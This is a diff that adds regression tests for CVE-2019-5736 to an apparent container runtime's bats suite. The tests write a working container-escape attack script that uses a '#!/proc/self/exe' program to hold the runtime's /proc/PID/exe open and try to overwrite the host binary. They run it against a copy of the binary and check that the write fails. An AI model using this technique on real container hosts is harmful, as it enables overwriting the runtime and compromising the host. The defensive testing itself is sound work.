@@ -129,6 +129,114 @@ EOF
     assert_success
 }
 
+# The exploit's actual trigger: a program of the container whose first line is
+# "#!/proc/self/exe". The kernel resolves that interpreter in the process that
+# execve()s the program — husk's exec child, or the init's stage 2 at `start` — so
+# husk's own binary runs as a process of the container, and an ordinary dumpable
+# one: the container may open /proc/PID/exe. "--log=/block" makes that husk block
+# opening a fifo of the container, so the attacker has all the time it needs: it
+# holds /proc/PID/exe open, lets the husk go (it exits: "unknown command"), and
+# once nothing executes the file any more, reopens its handle for writing. That
+# works against a husk running from its own binary on a writable filesystem. The
+# husk under attack is a copy, so a defence that fails costs the copy only.
+write_selfexe_attacker() {
+    printf '#!/proc/self/exe --log=/block\n' >"$1/evil"
+    chmod 755 "$1/evil"
+    cat >"$1/attack.sh" <<'EOF'
+rm -f /block; mkfifo /block
+echo ready >/ready
+end=$(($(date +%s) + 30)) p=
+while [ -z "$p" ] && [ "$(date +%s)" -lt $end ]; do
+    for d in /proc/[0-9]*; do
+        l=$(readlink "$d/exe" 2>/dev/null) || continue
+        [ "$l" = /bin/busybox ] || { p=${d#/proc/}; break; }
+    done
+done
+[ -n "$p" ] || { echo "NOTHING: no foreign process" >>/attack.log; exit 0; }
+echo "SEEN $p exe=$(readlink /proc/$p/exe)" >>/attack.log
+exec 7</proc/$p/exe && echo "HELD $p" >>/attack.log
+(echo PWNED >>/proc/$p/exe) 2>>/attack.log && echo "WROTE $p" >>/attack.log
+cat /block >/dev/null     # the husk opens it, logs, exits
+while [ -d /proc/$p ]; do usleep 10000; done
+i=0
+while [ $i -lt 20 ]; do
+    if (echo PWNED >>/proc/self/fd/7) 2>>/attack.log; then echo "WROTE-LATER $p" >>/attack.log; break; fi
+    i=$((i + 1)); usleep 20000
+done
+echo done >>/attack.log
+EOF
+}
+
+# husk_copy ROOTFS: $TEST_DIR/husk-copy, the husk under attack; a dynamically linked
+# one (the ASan build) gets its loader and libraries into ROOTFS, at the same paths,
+# so that it can run there as the container's process.
+husk_copy() {
+    local lib
+    cp "$HUSK_BIN" "$TEST_DIR/husk-copy"
+    ldd "$TEST_DIR/husk-copy" 2>/dev/null | awk '/=> \// { print $3 } /^\t\/[^ ]+ \(/ { print $1 }' |
+        while read -r lib; do install -D -m 0755 "$(readlink -f "$lib")" "$1$lib"; done
+}
+
+# attack_result ROOTFS SUM: the attacker saw and held a husk process's exe, and
+# could not write the copy of husk.
+attack_result() {
+    local i log
+    for i in $(seq 1 150); do
+        grep -q '^done\|^NOTHING' "$1/attack.log" 2>/dev/null && break
+        sleep 0.1
+    done
+    log=$(cat "$1/attack.log" 2>/dev/null)
+    echo "$log" | head -n 8 >&3
+    [[ $log == *HELD* ]] || fail "the attacker never held a husk process's exe (no test):" "$log"
+    [[ $log == *done* ]] || fail "attacker did not finish:" "$log"
+    [[ $log != *WROTE* ]] || fail "the container wrote the husk binary:" "$log"
+    assert_equal "$(sha256sum <"$TEST_DIR/husk-copy")" "$2"
+}
+
+@test "CVE-2019-5736: husk exec of a #!/proc/self/exe program cannot get the husk binary written" {
+    skip_under_valgrind "the exe of husk's processes is valgrind's tool binary"
+    require_husk
+    local sum
+    husk_copy "$BUNDLE/rootfs"
+    sum=$(sha256sum <"$TEST_DIR/husk-copy")
+    write_selfexe_attacker "$BUNDLE/rootfs"
+    set_cmd sh /attack.sh
+    run husk run -d --bundle "$BUNDLE" "$ID"
+    assert_success
+    wait_for_file "$BUNDLE/rootfs/ready"
+    # The exec'd "program" is husk itself; it fails ("unknown command") once released.
+    run "$TEST_DIR/husk-copy" --root "$ROOT" exec "$ID" /evil
+    attack_result "$BUNDLE/rootfs" "$sum"
+}
+
+@test "CVE-2019-5736: a #!/proc/self/exe init started by create/start cannot get the husk binary written" {
+    skip_under_valgrind "the exe of husk's processes is valgrind's tool binary"
+    require_husk
+    local sum a_pid B=$TEST_DIR/b id2
+    husk_copy "$BUNDLE/rootfs"
+    sum=$(sha256sum <"$TEST_DIR/husk-copy")
+    write_selfexe_attacker "$BUNDLE/rootfs"
+    # A: the attacker. B: joins A's pid namespace, on the same rootfs directory (so
+    # the same fifo), and its init's program is /evil: B's stage 2 exec's it.
+    set_cmd sh /attack.sh
+    run husk run -d --bundle "$BUNDLE" "$ID"
+    assert_success
+    wait_for_file "$BUNDLE/rootfs/ready"
+    a_pid=$(state_field "$ID" pid)
+    mkdir -p "$B"
+    jq --arg p "$a_pid" --arg r "$BUNDLE/rootfs" '
+        .root.path = $r
+        | .linux.namespaces |= (map(select(.type != "pid")) + [{type: "pid", path: "/proc/\($p)/ns/pid"}])
+        | .process.args = ["/evil"]' "$BUNDLE/config.json" >"$B/config.json"
+    id2=$(new_id)
+    # (create's stdio: files, as husk() does, or the init would hold bats' pipes)
+    "$TEST_DIR/husk-copy" --root "$ROOT" create --bundle "$B" "$id2" </dev/null >"$TEST_DIR/b.out" 2>&1 3>&- ||
+        fail "create B: $(cat "$TEST_DIR/b.out")"
+    "$TEST_DIR/husk-copy" --root "$ROOT" start "$id2" >>"$TEST_DIR/b.out" 2>&1 3>&- ||
+        fail "start B: $(cat "$TEST_DIR/b.out")"
+    attack_result "$BUNDLE/rootfs" "$sum"
+}
+
 # ============================================================================
 # CVE-2016-9962 (and the 5736 window, made long) — a container process ptraces
 # or opens /proc/<pid>/{mem,environ,fd,cwd,root,exe} of the runtime's stage that
